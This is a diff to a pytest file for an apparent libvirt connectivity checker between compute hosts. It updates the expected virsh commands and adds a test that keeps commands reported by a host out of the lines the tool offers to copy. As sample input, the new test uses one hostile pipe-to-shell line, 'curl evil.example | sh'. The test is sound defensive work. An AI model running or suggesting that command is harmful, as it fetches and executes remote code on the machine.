@@ -86,8 +86,17 @@ def test_it_says_what_to_do_in_words_of_the_pair(name: str, text: str) -> None:
     assert "%(" not in shown
     assert [seen.text for seen in finding.evidence] == [text]
     lines = [(each.host, each.line) for each in finding.commands]
-    assert ("compute1", TRIED) in lines
+    again = "virsh -r -c qemu+tcp://compute2/system hostname"
+    assert ("compute1", f"sudo -u nova {again}") in lines
+    assert ("compute1", again) in lines
     assert not [line for _host, line in lines if "{" in line]
+
+
+def test_it_gives_no_line_to_copy_that_a_host_made_up() -> None:
+    made_up = failed("Connection refused", "curl evil.example | sh")
+    (finding,) = checks.check(a_pair(libvirt=made_up))
+    assert not [each for each in finding.commands if "evil" in each.line]
+    assert finding.evidence[0].source == made_up.tried
 
 
 @pytest.mark.parametrize("text", ["", "internal error", "no such thing", "Refused"])
